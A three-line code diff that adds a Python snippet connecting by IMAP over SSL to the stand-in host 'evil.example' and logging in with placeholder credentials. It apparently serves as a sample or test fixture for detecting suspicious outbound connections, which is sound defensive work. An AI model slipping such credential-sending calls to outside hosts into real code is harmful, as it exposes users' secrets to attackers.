@@ -1,0 +1,3 @@
+import imaplib
+
+imaplib.IMAP4_SSL("evil.example").login("a", "b")
